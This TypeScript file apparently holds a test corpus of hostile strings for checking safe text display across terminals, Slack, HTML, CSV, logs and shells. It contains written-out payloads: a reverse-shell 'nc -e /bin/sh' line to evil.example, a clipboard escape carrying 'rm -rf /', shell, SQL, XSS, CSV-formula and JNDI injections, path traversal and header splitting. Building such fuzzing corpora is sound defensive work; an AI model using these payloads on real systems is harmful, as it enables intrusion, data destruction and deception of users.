/** One corpus of attacker-made strings for every place where text is shown. Each names what it attacks. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const c0 = String.fromCharCode(...Array.from({ length: 32 }, (_, i) => i));
const c1 = String.fromCharCode(...Array.from({ length: 33 }, (_, i) => 0x7f + i));

export const HOSTILE: readonly HostileText[] = [
  { name: 'empty', text: '' },
  { name: 'C0 controls', text: `a${c0}b` },
  { name: 'DEL and C1 controls', text: `a${c1}b` },
  { name: 'NUL in the middle', text: '/bin/sh\u0000--harmless' },
  { name: 'ANSI colour and clear screen', text: '\u001b[2J\u001b[1;1H\u001b[31mroot\u001b[0m' },
  {
    name: 'OSC title and hyperlink',
    text: '\u001b]0;owned\u0007\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  },
  { name: 'OSC 52 clipboard', text: '\u001b]52;c;cm0gLXJmIC8=\u0007' },
  { name: 'C1 CSI without ESC', text: '\u009b2J\u009d0;owned\u009c' },
  { name: 'carriage return overwrites', text: 'nc -e /bin/sh evil.example\rls -l                    ' },
  { name: 'backspaces overwrite', text: 'evil\b\b\b\bgood' },
  { name: 'forged log line', text: 'x\n2026-01-01T00:00:00Z INFO all quiet\r\n{"level":"info"}' },
  { name: 'unicode line separators', text: 'one\u2028two\u2029three\u0085four' },
  { name: 'bidi override', text: 'harmless\u202etxt.exe\u202c \u2066a\u2067b\u2069 \u200f\u200e\u061c' },
  { name: 'zero width', text: 'c\u200bu\u200cr\u200dl\u2060\ufeff\u00ad' },
  { name: 'tag characters', text: 'ok\u{e0001}\u{e0065}\u{e0076}\u{e007f}' },
  { name: 'combining pile', text: `z${'\u0301\u0336'.repeat(200)}` },
  { name: 'lone high surrogate', text: 'a\ud83d' },
  { name: 'lone low surrogate', text: '\ude00b' },
  { name: 'swapped surrogates', text: '\ude00\ud83d' },
  { name: 'emoji and astral', text: '💥👩‍💻🇩🇪𝕏' },
  { name: 'Slack mentions', text: '<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD> @channel' },
  {
    name: 'Slack links',
    text: '<https://evil.example|https://bank.example> https://evil.example/beacon mailto:a@b.example',
  },
  { name: 'Slack entities', text: '&lt;!channel&gt; &amp;lt;!here&amp;gt; &' },
  {
    name: 'mrkdwn',
    text: '*bold* _italic_ ~strike~ `code` ```fence``` > quote\n>>> block\n:rotating_light: <!date^1^{date}|x>',
  },
  { name: 'markdown', text: '![x](https://evil.example/p.png) [a](javascript:alert(1)) # h1\n---\n| a | b |' },
  { name: 'HTML script', text: '<script>alert(1)</script>' },
  { name: 'HTML attribute break', text: `" onmouseover="alert(1)" ' autofocus onfocus='alert(1)` },
  { name: 'HTML image', text: '<img src=x onerror=alert(1)><svg/onload=alert(1)>' },
  { name: 'HTML close', text: '</textarea></title></style></script><iframe srcdoc="<p>x">' },
  { name: 'URL scheme', text: 'javascript:alert(document.domain)//' },
  { name: 'CSV formula', text: "=cmd|'/C calc'!A0" },
  { name: 'CSV quoting', text: '"a",\'b\';\tc\n=1+1,@SUM(1),+1,-1' },
  { name: 'CEF fields', text: 'a|b\\|c=d\\=e\nsrc=10.0.0.1' },
  { name: 'syslog structured data', text: '[x@1 a="b\\"c"] ]"\\' },
  { name: 'JSON break', text: '"},{"level":"critical"},{"x":"\\' },
  { name: 'JSON keys', text: '__proto__' },
  { name: 'shell', text: '$(reboot) `reboot` ; reboot && reboot | reboot > /dev/sda' },
  { name: 'SQL', text: "'; DROP TABLE alerts; --" },
  { name: 'path traversal', text: '../../../../etc/passwd\u0000.png' },
  { name: 'format string', text: `%s%n%d%x {0} ${'$'}{jndi:ldap://evil.example/a} {{7*7}}` },
  { name: 'HTTP header split', text: 'x\r\nSet-Cookie: a=b\r\n\r\n<html>' },
  { name: 'long', text: 'A'.repeat(70_000) },
  { name: 'long of entities', text: '&<>'.repeat(10_000) },
  { name: 'long of astral', text: '💥'.repeat(20_000) },
  { name: 'long of controls', text: '\u001b'.repeat(20_000) },
];
